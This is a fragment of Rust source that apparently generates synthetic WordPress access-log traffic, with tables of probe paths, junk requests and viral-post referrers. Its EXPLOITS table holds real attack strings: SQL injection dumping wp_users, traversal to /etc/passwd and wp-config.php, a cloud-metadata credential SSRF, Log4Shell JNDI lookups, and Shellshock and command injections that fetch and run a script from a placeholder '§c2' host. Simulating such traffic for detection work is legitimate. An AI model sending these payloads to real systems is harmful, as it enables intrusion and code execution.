        "/wp-content/themes/twentytwentyfive/style.css",
        WpAnswer::Exists,
        1_482,
    ),
    (
        "GET",
        "/wp-content/uploads/wp-file-manager-pro/fm_backup/",
        WpAnswer::Missing,
        0,
    ),
    (
        "GET",
        "/wp-includes/ID3/license.txt",
        WpAnswer::Exists,
        1_359,
    ),
    ("GET", "/wp-cron.php", WpAnswer::Exists, 0),
    ("GET", "/wp-content/plugins/", WpAnswer::Denied, 0),
    ("GET", "/wp-admin/css/", WpAnswer::Denied, 0),
    ("GET", "/wp-signup.php", WpAnswer::Redirect, 0),
];

/// What kind of generic attack an exploit template carries (used for its answers).
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Attack {
    /// SQL injection in a query parameter: WordPress answers the page or an error.
    Sqli,
    /// Path traversal or file inclusion.
    Traversal,
    /// Cross-site scripting or template injection: the page is served.
    Reflect,
    /// The payload is in a header (Log4Shell, Shellshock): the path is ordinary.
    Header,
    /// PHP-CGI argument injection.
    PhpCgi,
    /// OS command injection in a parameter.
    Command,
}

/// Generic exploit payloads: (method, target template, user agent template or "" for the kit's own, kind).
pub(crate) const EXPLOITS: &[(&str, &str, &str, Attack)] = &[
    ("GET", "/?p=§num%27%20UNION%20ALL%20SELECT%20NULL,NULL,CONCAT(0x717a627671,user(),0x71786b7a71),NULL--%20-", "", Attack::Sqli),
    ("GET", "/?s=1%27%20AND%20SLEEP(5)--%20", "", Attack::Sqli),
    ("GET", "/?p=§num%20AND%201=1", "", Attack::Sqli),
    ("GET", "/?cat=§num%20OR%201=1--", "", Attack::Sqli),
    ("GET", "/index.php?id=-1+union+select+1,2,group_concat(user_login,0x3a,user_pass),4+from+wp_users--", "", Attack::Sqli),
    ("GET", "/?page_id=§num%27%20AND%20(SELECT%201%20FROM%20(SELECT(SLEEP(6)))x)--%20-", "", Attack::Sqli),
    ("GET", "/?id=1%27%20AND%20EXTRACTVALUE(1,CONCAT(0x5c,version()))--%20", "", Attack::Sqli),
    ("POST", "/wp-admin/admin-ajax.php?action=§hex8&id=1%20OR%20SLEEP(5)", "", Attack::Sqli),
    ("GET", "/index.php?page=../../../../etc/passwd", "", Attack::Traversal),
    ("GET", "/?file=..%2f..%2f..%2f..%2f..%2fetc%2fpasswd", "", Attack::Traversal),
    ("GET", "/%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd", "", Attack::Traversal),
    ("GET", "/..%252f..%252f..%252f..%252fetc/passwd", "", Attack::Traversal),
    ("GET", "/static/..;/..;/..;/etc/passwd", "", Attack::Traversal),
    ("GET", "/?page=..%5c..%5c..%5c..%5cwindows%5cwin.ini", "", Attack::Traversal),
    ("GET", "/?file=php://filter/convert.base64-encode/resource=wp-config.php", "", Attack::Traversal),
    ("GET", "/index.php?page=php://filter/read=convert.base64-encode/resource=index", "", Attack::Traversal),
    ("GET", "/?inc=data://text/plain;base64,PD9waHAgcGhwaW5mbygpOyA/Pg==", "", Attack::Traversal),
    ("GET", "/?template=expect://id", "", Attack::Traversal),
    ("GET", "/?s=%3Cscript%3Ealert(document.domain)%3C/script%3E", "", Attack::Reflect),
    ("GET", "/?q=%22%3E%3Csvg/onload=alert(§num)%3E", "", Attack::Reflect),
    ("GET", "/search/%3Cimg%20src=x%20onerror=prompt(1)%3E/", "", Attack::Reflect),
    ("GET", "/?name=%7B%7B§num*§num%7D%7D", "", Attack::Reflect),
    ("GET", "/?redirect_to=javascript:alert(1)", "", Attack::Reflect),
    ("GET", "/?url=http://169.254.169.254/latest/meta-data/iam/security-credentials/", "", Attack::Reflect),
    ("GET", "/", "${jndi:ldap://§c2:1389/Basic/Command/Base64/§hex8}", Attack::Header),
    ("GET", "/", "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://§c2:1099/§hex8}", Attack::Header),
    ("GET", "/?x=%24%7Bjndi:ldap://§c2/a%7D", "${jndi:dns://§c2/§hex8}", Attack::Header),
    ("GET", "/cgi-bin/status", "() { :; }; echo; /bin/bash -c 'cat /etc/passwd'", Attack::Header),
    ("GET", "/cgi-bin/test.cgi", "() { :; }; /bin/bash -c 'wget -qO- http://§c2/s.sh|sh'", Attack::Header),
    ("POST", "/?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input", "", Attack::PhpCgi),
    ("POST", "/cgi-bin/php-cgi.exe?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input", "", Attack::PhpCgi),
    ("POST", "/index.php?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input", "", Attack::PhpCgi),
    ("GET", "/?XDEBUG_SESSION_START=phpstorm", "", Attack::PhpCgi),
    ("GET", "/?cmd=;wget+http://§c2/bins/x86+-O-|sh", "", Attack::Command),
    ("GET", "/?ip=127.0.0.1%7Ccat%20/etc/passwd", "", Attack::Command),
    ("GET", "/?q=$(curl+-s+http://§c2/t.sh|sh)", "", Attack::Command),
    ("GET", "/?exec=%60id%60", "", Attack::Command),
    ("POST", "/?action=ping&host=1.1.1.1;wget+http://§c2/x.sh+-O+/tmp/x.sh;sh+/tmp/x.sh", "", Attack::Command),
];

/// Things that are not HTTP at all, as nginx escapes them in `$request` (answered 400).
pub(crate) const JUNK_REQUESTS: &[(&str, u32, u32)] = &[
    // (request as logged, size of the 400 answer, weight)
    ("\\x16\\x03\\x01\\x00\\xF4\\x01\\x00\\x00\\xF0\\x03\\x03", 157, 30),
    ("\\x16\\x03\\x01\\x02\\x00\\x01\\x00\\x01\\xFC\\x03\\x03\\x9B\\x1F", 157, 12),
    ("\\x16\\x03\\x01\\x00\\xA5\\x01\\x00\\x00\\xA1\\x03\\x03", 157, 8),
    ("\\x03\\x00\\x00/*\\xE0\\x00\\x00\\x00\\x00\\x00Cookie: mstshash=Administr", 157, 10),
    ("\\x03\\x00\\x00\\x13\\x0E\\xE0\\x00\\x00\\x00\\x00\\x00\\x01\\x00\\x08\\x00\\x03\\x00\\x00\\x00", 157, 6),
    ("SSTP_DUPLEX_POST /sra_{BA195980-CD49-458b-9E23-C84EE0ADCD75}/ HTTP/1.1", 157, 6),
    ("-", 0, 18),
    ("MGLNDD_198.51.100.24_80", 157, 4),
    ("\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00", 157, 3),
    ("GET / HTTP/1.1\\x0D\\x0AHost: \\x0D\\x0A", 157, 2),
    ("\\x05\\x01\\x00", 157, 3),
    ("\\x04\\x01\\x00P\\x0A\\x00\\x00\\x01\\x00", 157, 2),
    ("t3 12.2.1\\x0AAS:255\\x0AHL:19\\x0AMS:10000000\\x0A\\x0A", 157, 2),
    ("H\\x00\\x00\\x00\\x00\\x00\\x00\\x00", 157, 2),
];

/// The wave's new exploit: path templates no signature knows yet (with their weights).
pub(crate) const WAVE_TEMPLATES: &[(&str, u32)] = &[
    ("/cgi-bin/vpnapi/status/§hex8", 6),
    ("/rest/v3/sysinfo/export?id=§hex8§hex8", 3),
];

/// The wave's new, popular post (benign) and its picture.
pub(crate) const VIRAL_POST: &str = "/2025/11/the-night-our-dns-went-dark/";
/// The viral post's image: (path, size).
pub(crate) const VIRAL_IMAGE: (&str, u32) = (
    "/wp-content/uploads/2025/11/dns-outage-timeline.png",
    133_902,
);
/// Where readers of the viral post come from.
pub(crate) const VIRAL_REFERERS: &[(&str, u32)] = &[
    ("https://news.ycombinator.com/", 45),
    ("https://lobste.rs/", 10),
    ("https://www.reddit.com/", 15),
    ("https://mastodon.social/", 10),
    ("-", 15),
    ("https://www.google.com/", 5),
];
